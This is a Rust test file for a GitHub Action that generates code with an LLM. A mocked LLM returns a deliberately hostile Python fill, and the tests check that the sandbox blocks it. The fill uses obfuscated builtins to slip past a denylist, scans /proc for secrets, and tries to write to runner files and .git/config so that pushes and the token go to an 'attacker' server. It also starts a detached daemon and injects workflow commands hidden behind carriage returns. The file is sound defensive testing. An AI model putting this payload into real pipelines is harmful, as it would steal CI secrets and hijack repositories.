//! Generated code gets nothing that is not its own: a hostile fill from the scripted LLM that
//! really runs inside the generated app's tests tries every attack of issue 13, and each one
//! must fail — while the run still ends with the scaffold's passing tests pushed to origin.
//!
//! The fill slips past the fills' denylist on purpose (the denylist is a filter, not the
//! boundary). It proves it ran by writing a marker into the venv (the one place it may write
//! that outlives the staging folder, which the revert wipes), then fails the tests so that its
//! output, with workflow commands hidden behind lone CRs, is echoed by the action.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate, matchers::method};

use crate::helpers::{
    GitServer, TestContext, sample_event, sandbox_cache, sandbox_path, shared_cache, text,
};

const TOKEN: &str = "ghs_SandboxCanaryToken0123456789abc";
const KEY: &str = "sk-SandboxCanaryKey0123456789abcdef";

/// The hostile fill. `@NAME@` placeholders are filled in by the test.
pub(crate) const HOSTILE: &str = r#"import os as _o, sys as _s, json as _j
_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_op = _b["op" + "en"]
_imp = _b["__imp" + "ort__"]
_r = {"ran": True, "uid": _o.getuid(), "canary_seen": False, "readable_environ": [], "writes": {}}


def _attempt(name, f):
    try:
        _r[name] = "ok: " + str(f())[:300]
    except BaseException as e:
        _r[name] = "refused: " + type(e).__name__ + ": " + str(e)[:300]


def _ancestors():
    pid, out = _o.getpid(), []
    while pid > 1:
        with _op("/proc/%d/status" % pid) as f:
            pid = int([l for l in f if l.startswith("PPid:")][0].split()[1])
        out.append(pid)
    return out


def _environs():
    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
        for what in ("envi" + "ron", "mem"):
            try:
                with _op("/proc/%s/%s" % (pid, what), "rb") as f:
                    data = f.read(1 << 20)
            except BaseException:
                continue
            _r["readable_environ"].append(pid + "/" + what)
            if b"Canary" in data:
                _r["canary_seen"] = True
    return len(_r["readable_environ"])


_attempt("ancestors", _ancestors)
_attempt("environ", _environs)
for _name, _path, _text in [
    ("github_output", "@OUTPUT@", "pwned=@NONCE@\n"),
    ("github_env", "@ENV@", "BASH_ENV=/tmp/pwned-@NONCE@\n"),
    ("step_summary", "@SUMMARY@", "pwned-@NONCE@\n"),
    ("workspace_file", "@WORKSPACE@/README.md", "pwned-@NONCE@\n"),
    ("git_config", "@WORKSPACE@/.git/config",
     '[url "ht' + 'tp://@ATTACKER@/"]\n\tinsteadOf = ht' + 'tp://@ORIGIN@/\n\tpushInsteadOf = ht' + 'tp://@ORIGIN@/\n'),
]:
    def _w(p=_path, t=_text):
        with _op(p, "a") as f:
            f.write(t)
    _attempt("write_" + _name, _w)


def _daemon():
    sp = _imp("subpro" + "cess")
    p = getattr(sp, "Po" + "pen")(["sleep", "31347"], start_new_session=True)
    return p.pid


def _connect():
    so = _imp("soc" + "ket")
    c = so.create_connection(("127.0.0.1", @PORT@), timeout=3)
    c.close()
    return "connected"


_attempt("daemon", _daemon)
_attempt("connect", _connect)
with _op(_s.prefix + "/e2e-hostile-@NONCE@.json", "w") as _f:
    _j.dump(_r, _f)
raise RuntimeError("hostile fill ran\r::warning::pwned-@NONCE@\r::add-mask::passed\u2028::error::pwned-@NONCE@")


def validate(data, account):
    return data
"#;

/// The scripted LLM: the hostile fill for `app/rules/book.py`, harmless answers elsewhere.
pub(crate) struct Hostile(pub(crate) String);

impl Respond for Hostile {
    fn respond(&self, req: &Request) -> ResponseTemplate {
        let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
        let user = body["messages"][1]["content"].as_str().unwrap_or("");
        let system = body["messages"][0]["content"].as_str().unwrap_or("");
        let answer = if system.contains("DevOps engineer") {
            json!({"memory_limit_mb": 512, "latency_p95_seconds": 1.0, "notes": []})
        } else if system.contains("software architect") {
            json!({"overview": "x", "decisions": [], "risks": []})
        } else if user.contains("Hole: rules") && user.contains("File: app/rules/book.py") {
            json!({"code": self.0})
        } else {
            json!({"code": "pass\n"})
        };
        ResponseTemplate::new(200).set_body_json(json!({
            "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": answer.to_string()}}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 10}
        }))
    }
}

pub(crate) fn find_marker(cache: &Path, nonce: &str) -> Option<PathBuf> {
    let venvs = cache.join("venvs");
    std::fs::read_dir(venvs).ok()?.find_map(|e| {
        let p = e.ok()?.path().join(format!("e2e-hostile-{nonce}.json"));
        p.is_file().then_some(p)
    })
}

pub(crate) fn sleepers() -> Vec<String> {
    let out = std::process::Command::new("ps")
        .args(["-eo", "pid,user,args"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.contains("sleep 31347"))
        .map(String::from)
        .collect()
}

/// Waits up to 5 s for killed processes to be gone (a survivor sleeps for hours, so this
/// cannot hide one).
pub(crate) fn wait_for_no_sleepers() {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while !sleepers().is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

/// No line of `stdout`, split at every kind of line break, starts one of the fill's workflow
/// commands.
pub(crate) fn assert_no_command_echoed(stdout: &str, nonce: &str) {
    for line in stdout.split([
        '\r', '\n', '\u{85}', '\u{2028}', '\u{2029}', '\u{0b}', '\u{0c}',
    ]) {
        let t = line.trim_start();
        assert!(
            !(t.starts_with("::") && (t.contains(nonce) || t.starts_with("::add-mask::passed"))),
            "workflow command echoed: {line:?}"
        );
    }
}

pub(crate) fn is_root() -> bool {
    // SAFETY: geteuid cannot fail.
    unsafe { libc::geteuid() == 0 }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_fill_reaches_nothing_that_is_not_its_own() {
    let nonce = format!("{:x}", std::process::id() as u64 * 7919 + 17);
    let mut ctx = TestContext::new();
    let origin = GitServer::start(ctx.dir.path(), TOKEN);
    let attacker_root = ctx.dir.path().join("attacker");
    std::fs::create_dir_all(&attacker_root).unwrap();
    let attacker = GitServer::start(&attacker_root, "anything");
    let repo = git2::Repository::open(&ctx.workspace).unwrap();
    repo.remote_set_url("origin", &origin.url("origin.git"))
        .unwrap();
    let config_before = std::fs::read(ctx.workspace.join(".git/config")).unwrap();
    let readme_before = std::fs::read(ctx.workspace.join("README.md")).unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let github_env = ctx.dir.path().join("github_env");
    std::fs::write(&github_env, "KEEP=1\n").unwrap();
    // Without the scheme: the fill spells it in pieces, past the denylist.
    let origin_base = format!("127.0.0.1:{}", origin.port);
    let attacker_base = format!("127.0.0.1:{}", attacker.port);
    let fill = HOSTILE
        .replace("@OUTPUT@", &ctx.output.display().to_string())
        .replace("@ENV@", &github_env.display().to_string())
        .replace("@SUMMARY@", &ctx.summary.display().to_string())
        .replace("@WORKSPACE@", &ctx.workspace.display().to_string())
        .replace("@ORIGIN@", &origin_base)
        .replace("@ATTACKER@", &attacker_base)
        .replace("@PORT@", &listener.local_addr().unwrap().port().to_string())
        .replace("@NONCE@", &nonce);

    let llm = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(Hostile(fill))
        .mount(&llm)
        .await;
    for (k, v) in [
        ("INPUT_LLM-PROVIDER", "openai"),
        ("INPUT_LLM-BASE-URL", llm.uri().as_str()),
        ("INPUT_LLM-API-KEY", KEY),
        ("INPUT_GITHUB-TOKEN", TOKEN),
        ("INPUT_TEST-TIMEOUT", "120"),
        ("INPUT_MAX-REPAIR-ATTEMPTS", "0"),
        ("GITHUB_REPOSITORY", ""),
        ("ACTIONS_RUNTIME_TOKEN", "Canary-runtime-token"),
        ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "Canary-oidc-token"),
    ] {
        ctx.env.insert(k.into(), v.into());
    }
    ctx.env
        .insert("GITHUB_ENV".into(), github_env.display().to_string());
    let cache = sandbox_cache(&ctx.runner_temp);
    let path = sandbox_path(&ctx.runner_temp);
    ctx.env.insert("PATH".into(), path);
    let out = ctx.run_action_with_cache("issues", Some(&sample_event()), &cache);
    let all = text(&out);

    // It ran: its marker is in the venv, and its error was echoed (so the echo is tested).
    let marker_path =
        find_marker(&cache, &nonce).unwrap_or_else(|| panic!("the fill never ran\n{all}"));
    let marker: Value = serde_json::from_slice(&std::fs::read(&marker_path).unwrap()).unwrap();
    let _ = std::fs::remove_file(&marker_path);
    assert_eq!(marker["ran"], true);
    assert!(all.contains(&format!("pwned-{nonce}")), "{all}");

    // The run still ends well: the scaffold's tests pass and the branch is on origin.
    assert!(out.status.success(), "{all}");
    assert_eq!(ctx.outputs()["tests"], "passed", "{all}");
    assert!(all.contains("reverted to the scaffold"), "{all}");
    assert!(all.contains("sandbox: "), "{all}");
    let branch = ctx.outputs()["branch"].clone();
    assert!(ctx.origin_branches().contains_key(&branch), "{all}");

    // 1. No secret of the action's was readable, through /proc or otherwise.
    assert_eq!(marker["canary_seen"], false, "{marker:#}");
    if is_root() {
        // Its own uid: not ours (the cache is one the sandbox user can reach, so the layer
        // must be on).
        assert_ne!(marker["uid"], 0, "{marker:#}");
        assert!(all.contains("own uid 6"), "{all}");
    }
    // 2. and 3. Nothing of the runner's or the workspace's was written.
    for name in [
        "github_output",
        "github_env",
        "step_summary",
        "workspace_file",
        "git_config",
    ] {
        let r = marker[format!("write_{name}")].as_str().unwrap_or("");
        assert!(r.starts_with("refused"), "{name}: {r}");
    }
    assert_eq!(std::fs::read_to_string(&github_env).unwrap(), "KEEP=1\n");
    for file in [&ctx.output, &ctx.summary] {
        let s = std::fs::read_to_string(file).unwrap_or_default();
        assert!(
            !s.contains(&format!("pwned={nonce}")) && !s.contains(&format!("pwned-{nonce}\n")),
            "{s}"
        );
    }
    assert_eq!(
        std::fs::read(ctx.workspace.join(".git/config")).unwrap(),
        config_before
    );
    let readme = std::fs::read(ctx.workspace.join("README.md")).unwrap();
    assert_eq!(readme, readme_before);
    // The token went to origin only: the attacker's server saw no request at all.
    let attacker_log = std::fs::read_to_string(&attacker.log).unwrap_or_default();
    assert!(attacker_log.trim().is_empty(), "{attacker_log}");
    // No TCP connect during the tests.
    let c = marker["connect"].as_str().unwrap_or("");
    if e2e_action::sandbox::isolation::landlock_abi() >= 4 {
        assert!(c.starts_with("refused"), "{c}");
        let mut accepted = listener.accept();
        if let Ok((s, _)) = &mut accepted {
            let mut buf = [0u8; 16];
            let _ = s.read(&mut buf);
        }
        assert!(
            accepted.is_err(),
            "a connection reached the test's listener"
        );
    }
    // 4. No workflow command reached the runner: no line, however it is broken, starts one
    //    of the fill's.
    assert_no_command_echoed(&String::from_utf8_lossy(&out.stdout), &nonce);
    // Nothing of it survives the step, although it left the process group (setsid).
    assert!(
        marker["daemon"].as_str().unwrap_or("").starts_with("ok"),
        "{marker:#}"
    );
    if is_root() {
        wait_for_no_sleepers();
        assert_eq!(sleepers(), Vec::<String>::new(), "processes left behind");
    }
}

/// Configuration that would make the action write or send outside its place is one clear
/// error (exit 2) before anything is written.
#[test]
fn configuration_that_reaches_outside_is_refused_before_anything_is_written() {
    let templates = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    type Setup = Box<dyn Fn(&mut TestContext)>;
    let cases: Vec<(&str, Setup, &str)> = vec![
        (
            "app-dir under .github",
            Box::new(|ctx| ctx.write_config("app-dir: .github/workflows\n")),
            "never writes",
        ),
        (
            "llm-cache-dir outside the workspace",
            Box::new(|ctx| ctx.write_config("llm-cache-dir: ../../x\n")),
            "llm-cache-dir",
        ),
        (
            "cache-dir outside the workspace and RUNNER_TEMP",
            Box::new(|ctx| {
                ctx.env
                    .insert("INPUT_CACHE-DIR".into(), "/etc/e2e-cache".into());
            }),
            "outside the workspace and RUNNER_TEMP",
        ),
        (
            "the LLM key over plain http",
            Box::new(|ctx| {
                ctx.write_config("llm-provider: openai\nllm-base-url: http://llm.example.com/v1\n");
                ctx.env
                    .insert("OPENAI_API_KEY".into(), "sk-PlainHttpCanary".into());
            }),
            "is not https",
        ),
        (
            "a templates-dir pack reached through a symlink",
            Box::new(move |ctx| {
                let packs = ctx.workspace.join("packs");
                std::fs::create_dir_all(&packs).unwrap();
                std::os::unix::fs::symlink(
                    templates.join("python-fastapi"),
                    packs.join("python-fastapi"),
                )
                .unwrap();
                ctx.env.insert("INPUT_TEMPLATES-DIR".into(), "packs".into());
            }),
            "symlink",
        ),
    ];
    for (name, setup, expected) in cases {
        let mut ctx = TestContext::new();
        setup(&mut ctx);
        let before = ctx.workspace_fingerprint();
        let mut cmd = ctx.command("issues", Some(&sample_event()));
        if !ctx.env.contains_key("INPUT_CACHE-DIR") {
            cmd.env("INPUT_CACHE-DIR", shared_cache());
        }
        let out = cmd.output().unwrap();
        let all = text(&out);
        assert_eq!(out.status.code(), Some(2), "{name}: {all}");
        let errors: Vec<&str> = all.lines().filter(|l| l.starts_with("::error")).collect();
        assert_eq!(errors.len(), 1, "{name}: {all}");
        assert!(errors[0].contains(expected), "{name}: {}", errors[0]);
        let shown: Vec<&str> = all
            .lines()
            .filter(|l| !l.starts_with("::add-mask::"))
            .collect();
        assert!(!shown.join("\n").contains("sk-PlainHttpCanary"), "{name}");
        assert_eq!(ctx.workspace_fingerprint(), before, "{name}");
        assert_eq!(ctx.origin_branches().len(), 1, "{name}");
    }
}

/// On a kernel without Landlock (simulated by capping the ABI), the run still isolates by uid
/// and says so in the log and the step summary.
#[test]
fn without_landlock_the_run_isolates_by_uid_and_says_so() {
    let mut ctx = TestContext::new();
    ctx.env.insert("E2E_LANDLOCK_ABI".into(), "0".into());
    let cache = sandbox_cache(&ctx.runner_temp);
    let path = sandbox_path(&ctx.runner_temp);
    ctx.env.insert("PATH".into(), path);
    let out = ctx.run_action_with_cache("issues", Some(&sample_event()), &cache);
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    assert_eq!(ctx.outputs()["tests"], "passed", "{all}");
    let summary = std::fs::read_to_string(&ctx.summary).unwrap();
    for shown in [&all, &summary] {
        assert!(
            shown.contains("Landlock: not offered by this kernel"),
            "{shown}"
        );
        assert!(!shown.contains("Landlock ABI"), "{shown}");
        if is_root() {
            assert!(shown.contains("own uid 64"), "{shown}");
        }
    }
}
